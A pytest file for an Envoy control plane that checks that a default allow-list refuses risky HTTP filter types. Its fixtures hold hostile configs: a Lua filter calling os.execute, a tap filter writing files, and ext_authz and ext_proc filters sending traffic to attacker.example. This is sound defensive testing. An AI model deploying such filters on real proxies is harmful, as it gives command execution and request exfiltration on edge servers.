"""Issue 36, break 7: the HTTP filter types a desired state may use are the operator's to allow.

The probe that filed it: a typed filter from the desired state can be a Lua filter calling
`os.execute` (it ran `id` as root on the edge), an ext_authz to any host, a tap writing files.
Now the desired state may use the default allow-list (`desired/filter_types.py`: filters that
run no code, read or write no file, open no connection) and what `ballast serve --allow-filter`
adds. Shown: such filters are refused at validation with their path (file, line, the option
that permits them), by `validate`, by a running server's reload (the last version keeps
serving) — and the control, through a real Envoy 1.40: the same Lua filter, permitted, does run
its command on the edge for every request.
"""

from __future__ import annotations

import asyncio
import contextlib
import urllib.request
from pathlib import Path

import pytest

from control_plane.cli.main import main
from control_plane.decisions.read import iter_records
from control_plane.desired import DesiredStateError, parse_desired
from control_plane.desired.filter_types import DEFAULT_ALLOWED, allowed_filters
from control_plane.desired.typed_json import known_type
from control_plane.lifecycle.service import BallastService, ServiceConfig
from control_plane.translate import static_bootstrap, translate_pop
from control_plane.translate.resources import Capabilities
from harness.envoy_process import EnvoyProcess, free_port
from harness.eventually import eventually

LUA = "envoy.extensions.filters.http.lua.v3.Lua"
HOSTILE = {
    LUA: 'default_source_code: {inline_string: "function envoy_on_request(h) '
         "os.execute('touch MARKER') end\"}",
    "envoy.extensions.filters.http.tap.v3.Tap": "common_config: {static_config: {match: "
        "{any_match: true}, output_config: {sinks: [{file_per_tap: {path_prefix: /tmp/t}}]}}}",
    "envoy.extensions.filters.http.ext_authz.v3.ExtAuthz": "http_service: {server_uri: "
        "{uri: 'http://attacker.example', cluster: shop, timeout: 1s}}",
    "envoy.extensions.filters.http.ext_proc.v3.ExternalProcessor":
        "grpc_service: {google_grpc: {target_uri: 'attacker.example:443', stat_prefix: x}}",
    "envoy.extensions.filters.http.wasm.v3.Wasm": "config: {name: x}",
}


def desired_yaml(filter_type: str, config: str, origin_port: int = 8080,
                 listener_port: int = 10000) -> str:
    return f"""\
pops:
  ewr: {{listen_address: 127.0.0.1}}
origin_groups:
  shop:
    origins:
      primary: {{address: 127.0.0.1, port: {origin_port}}}
listeners:
  - name: edge
    port: {listener_port}
    http_filters:
      - name: extra
        typed_config:
          "@type": type.googleapis.com/{filter_type}
          {config}
    virtual_hosts:
      - {{name: shop, domains: ["*"], origin_group: shop}}
"""


def test_every_default_type_is_an_envoy_filter_and_any_is_every_type() -> None:
    assert all(known_type(name) for name in DEFAULT_ALLOWED)
    assert not DEFAULT_ALLOWED & set(HOSTILE)
    assert allowed_filters([]) == DEFAULT_ALLOWED
    assert allowed_filters([f"type.googleapis.com/{LUA}"]) == DEFAULT_ALLOWED | {LUA}
    assert allowed_filters(["any", LUA]) is None


@pytest.mark.parametrize("filter_type", sorted(HOSTILE))
def test_code_files_and_outside_services_are_refused_by_default(filter_type: str) -> None:
    text = desired_yaml(filter_type, HOSTILE[filter_type])
    with pytest.raises(DesiredStateError) as err:
        parse_desired(text, "desired.yaml")
    [problem] = err.value.problems
    assert str(problem).startswith("desired.yaml:13:")  # the typed_config's line
    assert "listeners[0].http_filters[0].typed_config" in str(problem)
    assert f"ballast serve --allow-filter {filter_type} permits it" in str(problem)
    # the control: permitted by name, or with `any`, it validates
    parse_desired(text, "desired.yaml", allowed_filters=DEFAULT_ALLOWED | {filter_type})
    parse_desired(text, "desired.yaml", allowed_filters=None)


def test_validate_judges_with_the_servers_option(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "desired.yaml"
    path.write_text(desired_yaml(LUA, HOSTILE[LUA]))
    assert main(["validate", str(path), "--no-envoy"]) == 1
    assert "not on this server's allow-list" in capsys.readouterr().err
    assert main(["validate", str(path), "--no-envoy", "--allow-filter", LUA]) == 0


async def test_a_running_server_refuses_the_filter_and_keeps_serving(tmp_path: Path) -> None:
    path = tmp_path / "desired.yaml"
    compressor = "envoy.extensions.filters.http.compressor.v3.Compressor"
    path.write_text(desired_yaml(compressor, "compressor_library: {name: gzip, typed_config: "
                                 '{"@type": type.googleapis.com/envoy.extensions.compression.'
                                 "gzip.compressor.v3.Gzip}}"))
    service = BallastService(ServiceConfig(
        desired_path=path, state_dir=tmp_path / "state", xds_address="127.0.0.1:0",
        admin_address=None, probes=False, reload_poll_s=0.1))
    await service.start()  # the control: a default type serves
    try:
        served = service.server.intent.desired.digest
        path.write_text(desired_yaml(LUA, HOSTILE[LUA]))

        def rejected() -> list[dict[str, object]]:
            return [r for r in iter_records(tmp_path / "state")
                    if r["kind"] == "config_rejected" and LUA in str(r)]

        [record] = await eventually(rejected, 10, "the Lua filter refused")
        assert "--allow-filter" in str(record)
        assert service.server.intent.desired.digest == served
    finally:
        await service.stop(0)


@pytest.mark.envoy
def test_permitted_the_lua_filter_runs_its_command_on_the_edge(tmp_path: Path) -> None:
    """Why the default refuses it: through a real Envoy, each request runs the command."""
    marker = tmp_path / "ran"
    listener = free_port()
    text = desired_yaml(LUA, HOSTILE[LUA].replace("MARKER", str(marker)),
                        listener_port=listener)
    with pytest.raises(DesiredStateError):
        parse_desired(text, "desired.yaml")
    desired = parse_desired(text, "desired.yaml", allowed_filters=DEFAULT_ALLOWED | {LUA})
    bootstrap = static_bootstrap(translate_pop(desired, "ewr", Capabilities()))
    admin = free_port()
    bootstrap["admin"]["address"]["socket_address"]["port_value"] = admin
    with EnvoyProcess(bootstrap, admin) as envoy:
        envoy.wait_ready()
        # no origin listens: the answer is a 503, the Lua filter ran before it
        with contextlib.suppress(OSError):
            urllib.request.urlopen(f"http://127.0.0.1:{listener}/", timeout=5)
        asyncio.run(eventually(marker.exists, 5, "the command run by Envoy"))
